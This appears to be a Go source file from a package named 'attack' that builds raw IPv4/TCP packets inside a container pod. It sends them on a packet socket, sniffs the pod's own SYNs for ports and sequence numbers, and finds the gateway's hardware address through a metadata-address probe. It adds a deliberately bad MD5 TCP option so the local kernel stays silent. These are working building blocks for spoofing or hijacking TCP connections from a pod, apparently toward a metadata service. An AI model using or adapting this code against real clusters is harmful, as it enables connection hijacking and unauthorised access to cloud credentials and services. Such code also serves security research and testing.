package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// link is the pod's interface.
const link = "eth0"

const (
	flagSYN = 0x02
	flagACK = 0x10
)

// segment is a TCP segment without data (RFC 9293) in an IPv4 packet (RFC 791).
type segment struct {
	from, to netip.AddrPort
	seq, ack uint32
	flags    byte
	ttl      byte
	// md5 adds the option of RFC 2385. The pod's own kernel does not answer such a
	// segment with a reset, since it has no key for it (tcp_v4_send_reset).
	md5 bool
}

func (s segment) marshal() []byte {
	const ipSize, tcpSize, windowSize = 20, 20, 64240
	tcp := make([]byte, tcpSize, tcpSize+20)
	if s.md5 {
		tcp = append(tcp, 19, 18)
		tcp = append(tcp, make([]byte, 16)...) // a digest that is wrong
		tcp = append(tcp, 0, 0)
	}
	binary.BigEndian.PutUint16(tcp[0:], s.from.Port())
	binary.BigEndian.PutUint16(tcp[2:], s.to.Port())
	binary.BigEndian.PutUint32(tcp[4:], s.seq)
	binary.BigEndian.PutUint32(tcp[8:], s.ack)
	tcp[12], tcp[13] = byte(len(tcp)/4<<4), s.flags
	binary.BigEndian.PutUint16(tcp[14:], windowSize)

	ip := make([]byte, ipSize, ipSize+len(tcp))
	ip[0], ip[8], ip[9] = 0x45, s.ttl, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(ip[2:], uint16(ipSize+len(tcp))) //nolint:gosec // 60
	copy(ip[12:], s.from.Addr().AsSlice())
	copy(ip[16:], s.to.Addr().AsSlice())
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))

	pseudo := append([]byte{}, ip[12:20]...)
	pseudo = append(pseudo, 0, unix.IPPROTO_TCP, 0, byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
	return append(ip, tcp...)
}

// checksum is that of RFC 1071, of an even number of bytes.
func checksum(b []byte) uint16 {
	var sum uint32
	for ; len(b) >= 2; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// wire sends and hears raw packets on the pod's link.
type wire struct {
	fd      int
	index   int
	gateway net.HardwareAddr
}

func openWire(metadata netip.Addr) (*wire, error) {
	iface, err := net.InterfaceByName(link)
	if err != nil {
		return nil, err
	}
	w := &wire{index: iface.Index}
	if w.gateway, err = gateway(metadata); err != nil {
		return nil, err
	}
	// A socket for all protocols hears what the pod itself sends, too.
	w.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return nil, fmt.Errorf("opening a packet socket: %w", err)
	}
	return w, nil
}

func (w *wire) close() { _ = unix.Close(w.fd) }

func (w *wire) send(s segment) error {
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: w.index, Halen: 6}
	copy(to.Addr[:], w.gateway)
	return unix.Sendto(w.fd, s.marshal(), 0, to)
}

// sniffSYN calls found with the source port and sequence number of each SYN that the
// pod sends to the address, until ctx ends.
func (w *wire) sniffSYN(ctx context.Context, to netip.AddrPort, found func(port uint16, seq uint32)) error {
	look := unix.NsecToTimeval(int64(20 * time.Millisecond)) // for the end of ctx
	if err := unix.SetsockoptTimeval(w.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &look); err != nil {
		return err
	}
	buf := make([]byte, 2048)
	for ctx.Err() == nil {
		n, _, err := unix.Recvfrom(w.fd, buf, 0)
		if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return err
		}
		p := buf[:n]
		if n < 40 || p[0] != 0x45 || p[9] != unix.IPPROTO_TCP || p[33] != flagSYN {
			continue
		}
		if dst, _ := netip.AddrFromSlice(p[16:20]); netip.AddrPortFrom(dst, binary.BigEndian.Uint16(p[22:])) == to {
			found(binary.BigEndian.Uint16(p[20:]), binary.BigEndian.Uint32(p[24:]))
		}
	}
	return nil
}

// gateway returns the hardware address of the pod's first hop. The pod's kernel
// finds it out when it has something to send there.
func gateway(metadata netip.Addr) (net.HardwareAddr, error) {
	conn, err := net.Dial("udp4", netip.AddrPortFrom(metadata, 9).String())
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	for range 1000 {
		_, _ = conn.Write([]byte{0})
		table, err := os.ReadFile("/proc/thread-self/net/arp")
		if err != nil {
			return nil, err
		}
		for line := range strings.Lines(string(table)) {
			// IP address, HW type, Flags, HW address, Mask, Device
			fields := strings.Fields(line)
			if len(fields) == 6 && fields[2] == "0x2" && (fields[0] == "169.254.1.1" || strings.HasSuffix(fields[0], ".0.1")) {
				return net.ParseMAC(fields[3])
			}
		}
		time.Sleep(time.Millisecond)
	}
	return nil, errors.New("the gateway does not answer ARP")
}

func htons(n uint16) uint16 { return n<<8 | n>>8 }
